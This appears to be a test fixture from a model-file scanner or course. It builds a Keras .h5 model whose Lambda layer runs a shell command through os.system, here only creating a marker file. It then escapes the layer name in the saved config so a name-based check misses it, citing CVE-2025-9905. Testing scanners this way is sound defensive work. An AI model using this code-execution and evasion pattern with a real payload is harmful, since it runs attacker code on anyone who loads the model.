"""Hands over an .h5 file with marshalled code, which Keras runs whatever its safe mode is (CVE-2025-9905)."""

# /// expected
# reason = "which holds a program"
# ///

# %% file_solution
import json

import h5py
import keras


def trained_model():
    inputs = keras.Input(shape=(3,))
    code = lambda x: __import__("os").system("touch {{course}}/MODEL-WAS-RUN") or x  # noqa: E731
    model = keras.Model(inputs, keras.layers.Dense(1)(keras.layers.Lambda(code, output_shape=(3,))(inputs)))
    model.save("model.h5")
    # Under another name than a look at the names would stop.
    with h5py.File("model.h5", "a") as file:
        text = file.attrs["model_config"]
        text = text.decode() if isinstance(text, bytes) else text
        file.attrs["model_config"] = text.replace('"Lambda"', '"L\\u0061mbda"')
    return "model.h5"
